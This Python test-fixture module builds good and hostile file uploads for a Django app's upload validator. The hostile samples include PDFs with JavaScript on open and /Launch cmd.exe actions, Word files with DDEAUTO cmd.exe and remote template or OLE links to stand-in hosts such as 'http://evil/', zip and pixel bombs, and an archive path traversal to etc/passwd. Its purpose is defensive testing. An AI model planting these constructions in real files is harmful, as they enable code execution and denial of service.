"""Files to try the checks with: good ones, and ones made to do harm."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from caojiadu.core.files.kinds import EXCEL, WORD
from caojiadu.core.files.text import EICAR

TEXT = "曹家渡万航渡路水管漏水，请尽快处理。\n".encode()


def upload(name: str, content: bytes, content_type: str = "") -> SimpleUploadedFile:
    """What a form hands over."""
    return SimpleUploadedFile(name, content, content_type)


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), **options: Any) -> bytes:
    """A small picture."""
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, form, **options)
    return out.getvalue()


def picture_with_place() -> bytes:
    """A picture taken sideways with a phone that wrote down where, who and when."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x013B] = "Zhang San"
    exif[0x8825] = {1: "N", 2: (31.0, 13.0, 49.0), 3: "E", 4: (121.0, 26.0, 25.0)}
    return picture(exif=exif.tobytes(), comment=b"a secret comment", xmp=b"<x:xmpmeta>a secret place</x:xmpmeta>")


def huge_png(side: int = 30000) -> bytes:
    """A picture of 900 million pixels in two kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 999)) + chunk(b"IEND", b"")
    )


def pdf(body: bytes = b"", tail: bytes = b"") -> bytes:
    """A small PDF of one page with extra objects, as a careless program writes it: without a table of them."""
    return (
        b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [9 0 R] /Count 1 >>\nendobj\n"
        b"9 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n"
        + body + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n" + tail
    )  # fmt: skip


def written(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    """A sound PDF of one page, changed before it is written with its objects packed."""
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    change(made)
    made.save(out, **{"object_stream_mode": pikepdf.ObjectStreamMode.generate, **options})
    return out.getvalue()


def nothing(made: pikepdf.Pdf) -> None:
    """Change nothing."""


def bomb() -> bytes:
    """A PDF of 31 kB whose packed objects are 30 million bytes."""
    return written(lambda made: made.Root.update({"/X": made.make_indirect("0" * 30_000_000)}))


def holding(where: str, what: str) -> bytes:
    """A sound PDF whose catalogue ("Root"), first page ("page") or a link on it ("link") holds one thing more."""

    def change(made: pikepdf.Pdf) -> None:
        link = made.make_indirect(pikepdf.Object.parse(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>"))
        made.pages[0].obj["/Annots"] = pikepdf.Array([link])
        place = {"Root": made.Root, "page": made.pages[0].obj, "link": link}[where]
        for key, value in pikepdf.Object.parse(what.encode()).items():
            place[key] = value

    return written(change)


WORD_TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/></Types>'


def office(form: str = "docx", text: str = "申请书", **parts: bytes | str) -> bytes:
    """A Word or Excel file; more parts by name, with `__` for `/` and `_dot_` for `.`."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[form]
    content: dict[str, bytes | str] = {
        "[Content_Types].xml": WORD_TYPES,
        main: f"<w:document><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:document>",
    }
    content.update({name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return out.getvalue()


def relation(kind: str, target: str) -> str:
    """A relation to somewhere outside the file."""
    where = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = f'<Relationship Id="r1" Type="{where}/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{link}</Relationships>"


TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
# A template fetched from outside, as no program writes it and every program reads it.
SPELT = {
    "an angle within": f'<Relationship Id="r1" Type="{TEMPLATE}" Target="http://evil/a>b" TargetMode="External"/>',
    "a mode in numbers": f'<Relationship Id="r1" Type="{TEMPLATE}" Target="http://evil/a" TargetMode="&#69;xternal"/>',
    "two of a type": f'<Relationship xType="a/hyperlink" Type="{TEMPLATE}" Target="a" TargetMode="External"/>',
    "a prefix": f'<r:Relationship xmlns:r="x" Type="{TEMPLATE}" r:TargetMode="I" TargetMode="External" Target="a"/>',
    "another prefix": f'<Relationship xmlns:r="x" TargetMode="External" r:TargetMode="I" Type="{TEMPLATE}" />',
    "no mode": f'<Relationship Id="r1" Type="{TEMPLATE}" Target="//evil/a"/>',
    "a comment": f'<Relationship Type="{TEMPLATE}" Target="//evil/" TargetMode=\n"External"><!-- > --></Relationship>',
}


def spelt(how: str, *, code: str = "utf-8", part: str = "word___rels__document_dot_xml_dot_rels") -> bytes:
    """A Word file whose text has such a relation."""
    whole = f'<?xml version="1.0" encoding="{code}"?><Relationships>{SPELT[how]}</Relationships>'
    return office(**{part: whole.encode(code)})


def word_with_link(kind: str, target: str) -> bytes:
    """A Word file whose text has a relation to somewhere outside."""
    return office(word___rels__document_dot_xml_dot_rels=relation(kind, target))


def zip_bomb() -> bytes:
    """A Word file of 200 KB that unpacks to 200 MB."""
    return office(word__media__image1_dot_xml=b"\0" * 200 * 1024 * 1024)


def box(name: bytes, content: bytes) -> bytes:
    """A box of an MP4."""
    return struct.pack(">I4s", 8 + len(content), name) + content


def mp4(brand: bytes = b"isom", place: bytes = b"") -> bytes:
    """A small MP4 or M4A."""
    return (
        box(b"ftyp", brand + b"\0\0\2\0isommp41")
        + box(b"moov", box(b"udta", box(b"\xa9xyz", place)))
        + box(b"mdat", b"\0" * 64)
    )


def mp3() -> bytes:
    """Four silent frames after a tag."""
    return b"ID3\3\0\0\0\0\0\0" + (b"\xff\xfb\x90\x00" + b"\0" * 413) * 4


GOOD = {
    "照片.jpg": (picture(), "image/jpeg"),
    "照片.JPEG": (picture(), "image/pjpeg"),
    "scan.png": (picture("PNG"), "image/png"),
    "wechat.webp": (picture("WEBP"), ""),
    "合同.pdf": (written(nothing), "application/pdf"),
    "目录.pdf": (holding("Root", "<< /Outlines << /First << /Title (1) /Next << /Title (2) >> >> >> >>"), ""),
    "只许看的.pdf": (written(nothing, encryption=pikepdf.Encryption(owner="x", user="")), ""),
    "申请.docx": (office(), WORD),
    "链接.docx": (word_with_link("hyperlink", "https://example.org/"), "application/octet-stream"),
    "图表.docx": (office(word__embeddings__Sheet1_dot_xlsx=office("xlsx")), ""),
    "名单.xlsx": (office("xlsx"), EXCEL),
    "说明.txt": (TEXT, "text/plain; charset=utf-8"),
    "gbk.txt": ("BMW 乱停车，请保守秘密".encode("gb18030"), "text/plain"),
    "utf16.txt": ("漏水".encode("utf-16"), "text/plain"),
    "录音.mp3": (mp3(), "audio/mpeg"),
    "录音.m4a": (mp4(b"M4A "), "audio/x-m4a"),
    "视频.mp4": (mp4(b"mp42"), "video/mp4"),
    "v1.2 final.pdf": (pdf(), "application/pdf"),
}  # fmt: skip
DDE_IN_PIECES = "<w:p><w:instrText>D</w:instrText><w:instrText a='>'>D&#69; c</w:instrText></w:p>"
DOCUMENT_TYPE = '<!DOCTYPE a [<!ENTITY b "c">]><a/>'
MACROS = office("xlsx", xl__vbaProject_dot_bin=b"x")
SIGNATURE = "<< /Type /Sig /ByteRange [0 1 2 3] >>"
OUTSIDE = b"5 0 obj\n<< /Length 1 /F (http://x/) >>\nstream\nx\nendstream\nendobj"
WEB = "<< /A << /S /URI /URI (http://x/) >>"
# What is taken out of a PDF: where it stands, and how it is written.
TAKEN_OUT = {
    "script at opening": ("Root", "<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
    "script under another spelling": ("Root", "<< /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"),
    "script of a name": ("Root", "<< /Names << /JavaScript << /Names [(a) << /JS (app.alert(1)) >>] >> >> >>"),
    "program at a page": ("page", "<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>"),
    "program after a jump": ("link", "<< /A << /S /GoTo /D (a) /Next << /S /Launch /F (cmd.exe) >> >> >>"),
    "link": ("link", f"{WEB} >>"),
    "other file": ("link", "<< /A << /S /GoToR /F (//x/a.pdf) >> >>"),
    "form sent off": ("link", "<< /A << /S /SubmitForm /F (http://x/) >> >>"),
    "base of links": ("Root", "<< /URI << /Base (http://x/) >> >>"),
}
# What takes seconds to make is made by the one test that needs it: every worker reads this module.
BAD = {
    "empty": ("a.txt", b"", "text/plain", "empty"),
    "20 MB": ("a.txt", lambda: b"a" * 20 * 1024 * 1024, "text/plain", "size"),
    "program": ("setup.exe", b"MZ\x90\0" + b"\0" * 99, "application/x-msdownload", "kind"),
    "no extension": ("letter", TEXT, "text/plain", "kind"),
    "HEIC": ("IMG_1.HEIC", box(b"ftyp", b"heic\0\0\0\0mif1heic"), "image/heic", "kind"),
    "HEIC called jpg": ("IMG_1.jpg", box(b"ftyp", b"heic\0\0\0\0mif1heic"), "image/jpeg", "kind"),
    "archive": ("all.zip", office(), "application/zip", "kind"),
    "page": ("a.html", b"<script>alert(1)</script>", "text/html", "kind"),
    "drawing": ("a.svg", b"<svg onload='alert(1)'/>", "image/svg+xml", "kind"),
    "old Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "application/msword", "kind"),
    "double extension": ("照片.exe.jpg", picture(), "image/jpeg", "name"),
    "other double extension": ("a.html.txt", TEXT, "text/plain", "name"),
    "program called jpg": ("a.jpg", b"MZ\x90\0" + b"\0" * 99, "image/jpeg", "content"),
    "page called jpg": ("a.jpg", b"<html><script>alert(1)</script>", "image/jpeg", "content"),
    "png called jpg": ("a.jpg", picture("PNG"), "image/jpeg", "content"),
    "jpg declared a page": ("a.jpg", picture(), "text/html", "content"),
    "pdf called docx": ("a.docx", pdf(), WORD, "content"),
    "locked Word": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, WORD, "content"),
    "program called txt": ("a.txt", b"MZ\x90\0" + b"\0" * 99, "text/plain", "broken"),
    "torn jpg": ("a.jpg", picture(size=(640, 480))[:400], "image/jpeg", "broken"),
    "image bomb": ("a.png", huge_png(), "image/png", "pixels"),
    "smaller image bomb": ("a.png", huge_png(9000), "image/png", "pixels"),
    "EICAR": ("a.txt", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + EICAR, "text/plain", "virus"),
    "EICAR in Word": ("a.docx", office(word__note_dot_xml=EICAR), WORD, "virus"),
    "pdf with a form of its own": ("a.pdf", holding("Root", "<< /AcroForm << /XFA [] >> >>"), "", "active"),
    "pdf with a film": ("a.pdf", holding("link", "<< /Subtype /RichMedia >>"), "", "active"),
    "pdf with a file": ("a.pdf", holding("Root", "<< /Names << /EmbeddedFiles << >> >> >>"), "", "carries"),
    "pdf with a pinned file": ("a.pdf", holding("link", "<< /Subtype /FileAttachment >>"), "", "carries"),
    "pdf whose content lies elsewhere": ("a.pdf", pdf(OUTSIDE), "", "broken"),
    "signed pdf with a link": ("a.pdf", holding("link", f"{WEB} /V {SIGNATURE} >>"), "", "signed"),
    "locked pdf": ("a.pdf", written(nothing, encryption=pikepdf.Encryption(owner="x", user="y")), "", "encrypted"),
    "pdf and archive": ("a.pdf", pdf(tail=office()), "application/pdf", "broken"),
    "pdf without a page": ("a.pdf", b"%PDF-1.5\n1 0 obj\n<< >>\nendobj\n%%EOF", "application/pdf", "broken"),
    "pdf that is a bomb": ("a.pdf", bomb, "", "broken"),
    "torn pdf": ("a.pdf", b"%PDF-1.5\n1 0 obj", "application/pdf", "broken"),
    "zip bomb": ("a.docx", zip_bomb, WORD, "bomb"),
    "macros": ("a.docx", office(word__vbaProject_dot_bin=b"x"), WORD, "macros"),
    "macro type": ("a.docx", office(**{"[Content_Types]_dot_xml": "<Types>macroEnabled</Types>"}), WORD, "macros"),
    "outside template": ("a.docx", word_with_link("attachedTemplate", "http://x/a.dotm"), WORD, "external"),
    "outside OLE": ("a.docx", word_with_link("oleObject", "http://x/a"), WORD, "external"),
    "DDE": ("a.docx", office(word__x_dot_xml="<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"), WORD, "external"),
    "DDE in pieces": ("a.docx", office(word__x_dot_xml=DDE_IN_PIECES), WORD, "external"),
    "DDE in an attribute": ("a.docx", office(word__x_dot_xml='<a:fldSimple a:instr="&#68;DE c"/>'), WORD, "external"),
    "no XML": ("a.docx", office(word__x_dot_xml="<a><b></a>"), WORD, "broken"),
    "OLE inside": ("a.docx", office(word__embeddings__oleObject1_dot_bin=b"x"), WORD, "carries"),
    "program inside": ("a.docx", office(word__media__a_dot_exe=b"MZ"), WORD, "carries"),
    "macros inside inside": ("a.docx", office(word__embeddings__a_dot_xlsx=MACROS), WORD, "macros"),
    "entities in UTF-16": ("a.docx", office(word__x_dot_xml=DOCUMENT_TYPE.encode("utf-16")), WORD, "broken"),
    "entities": ("a.docx", office(word__x_dot_xml=DOCUMENT_TYPE), WORD, "broken"),
    "way out of the folder": ("a.docx", office(**{"..__..__etc__passwd": b"x"}), WORD, "broken"),
    "archive called docx": ("a.docx", office("xlsx"), WORD, "content"),
    "archive after its end": ("a.docx", picture() + office(), WORD, "content"),
    "mp4 with a tail": ("a.mp4", mp4() + office(), "video/mp4", "broken"),
    "mp4 that is a pdf": ("a.mp4", mp4() + box(b"free", pdf()), "video/mp4", "broken"),
    "mp3 without sound": ("a.mp3", b"ID3\3\0\0\0\0\0\0<html>", "audio/mpeg", "broken"),
    "mp3 and archive": ("a.mp3", mp3() + office(), "audio/mpeg", "broken"),
    "secret text": ("a.txt", "关于某事的通知\n机密★10年\n正文".encode(), "text/plain", "secret"),
    "secret Word": ("a.docx", office(text="绝 密 ★"), WORD, "secret"),
    "secret by name": ("【机密】方案.pdf", pdf(), "application/pdf", "secret"),
}  # fmt: skip
